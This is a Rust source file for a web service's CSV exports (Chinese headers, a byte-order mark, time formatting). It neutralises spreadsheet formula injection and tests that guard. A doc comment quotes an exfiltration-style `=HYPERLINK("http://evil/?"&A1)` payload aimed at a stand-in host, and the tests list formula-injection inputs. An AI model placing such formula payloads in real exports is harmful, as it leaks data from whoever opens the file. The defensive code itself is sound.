//! CSV exports, for every download the office has (violations, the monthly report): UTF-8
//! with a byte-order mark, a Chinese or a code header row, and every text cell
//! neutralised for spreadsheets.

use axum::http::header;
use axum::response::{IntoResponse, Response};
use shared::time::CHINA;

use crate::http::error::AppError;
use crate::office::ReviewStatus;

/// One cell of a CSV export. Text is neutralised for spreadsheets on the way out
/// ([`spreadsheet_safe`]); numbers are written as they are, so that they stay numbers.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) enum Cell {
    /// Anything a person or a document may have written (notes, names, ids, statuses).
    Text(String),
    /// A count or an amount the server computed.
    Number(i64),
}

impl From<String> for Cell {
    fn from(s: String) -> Self {
        Cell::Text(s)
    }
}

impl From<&str> for Cell {
    fn from(s: &str) -> Self {
        Cell::Text(s.to_string())
    }
}

impl From<i64> for Cell {
    fn from(n: i64) -> Self {
        Cell::Number(n)
    }
}

/// The text of a cell as a spreadsheet program will take it as text, never as a formula
/// (CSV injection, OWASP): a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage
/// return gets a leading `'`, which spreadsheets read as "this is text" and do not show.
/// A note such as `=HYPERLINK("http://evil/?"&A1)` or `-2+3` typed on a tablet would
/// otherwise be evaluated when the office opens the export.
fn spreadsheet_safe(text: &str) -> std::borrow::Cow<'_, str> {
    match text.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{text}").into(),
        _ => text.into(),
    }
}

/// A CSV download: UTF-8 with a byte-order mark, so that spreadsheet programs show the
/// Chinese text correctly. Every export goes through here, so every text cell of every
/// export is neutralised by [`spreadsheet_safe`].
pub(super) fn csv_response(
    filename: &str,
    header: &[&str],
    rows: Vec<Vec<Cell>>,
) -> Result<Response, AppError> {
    let mut writer = csv::Writer::from_writer(b"\xEF\xBB\xBF".to_vec());
    let fail = |e: csv::Error| AppError::Internal(format!("csv: {e}"));
    writer.write_record(header).map_err(fail)?;
    for row in rows {
        let cells = row.iter().map(|cell| match cell {
            Cell::Text(text) => spreadsheet_safe(text),
            Cell::Number(n) => n.to_string().into(),
        });
        writer
            .write_record(cells.map(|c| c.into_owned()))
            .map_err(fail)?;
    }
    let bytes = writer
        .into_inner()
        .map_err(|e| AppError::Internal(format!("csv: {e}")))?;
    Ok((
        [
            (header::CONTENT_TYPE, "text/csv; charset=utf-8".to_string()),
            (
                header::CONTENT_DISPOSITION,
                format!("attachment; filename=\"{filename}\""),
            ),
        ],
        bytes,
    )
        .into_response())
}

/// Which header row a CSV export has: Chinese for the office (the default), or the English
/// codes scripts read (`?headers=codes`). The columns and their order are the same.
pub(super) fn header_row<'a>(
    headers: Option<&str>,
    columns: &[(&'a str, &'a str)],
) -> Result<Vec<&'a str>, AppError> {
    match headers {
        None | Some("" | "zh") => Ok(columns.iter().map(|(_, zh)| *zh).collect()),
        Some("codes") => Ok(columns.iter().map(|(code, _)| *code).collect()),
        Some(other) => Err(AppError::BadRequest(format!(
            "headers must be codes or zh, not {other}"
        ))
        .because("unknown_headers")
        .with("headers", other)),
    }
}

/// A time as the office reads it: `YYYY-MM-DD HH:MM`, China Standard Time.
pub(super) fn beijing_time(ms: i64) -> String {
    chrono::DateTime::from_timestamp_millis(ms)
        .map(|t| t.with_timezone(&CHINA).format("%Y-%m-%d %H:%M").to_string())
        .unwrap_or_default()
}

/// The Chinese name of a violation's review status (an unknown code as it is).
pub(super) fn status_zh(status: &str) -> &str {
    ReviewStatus::parse(status).map_or(status, |s| s.name_zh())
}

/// The Chinese name of a fine type.
pub(super) fn fine_type_zh(fine_type: &str) -> &str {
    match fine_type {
        "none" => "无罚款",
        "yuan" => "罚款",
        "dismissal_review" => "开除审查",
        "replace_tool" => "照价赔偿",
        other => other,
    }
}

#[cfg(test)]
mod tests {
    use super::spreadsheet_safe;

    #[test]
    fn cells_a_spreadsheet_would_evaluate_are_text() {
        for (cell, safe) in [
            ("=1+2", "'=1+2"),
            ("+SUM(A1)", "'+SUM(A1)"),
            ("-2+3", "'-2+3"),
            ("@cmd", "'@cmd"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("油漆=危险", "油漆=危险"),
            ("rags", "rags"),
            (" =1", " =1"),
            ("", ""),
        ] {
            assert_eq!(spreadsheet_safe(cell), safe, "{cell:?}");
        }
    }
}
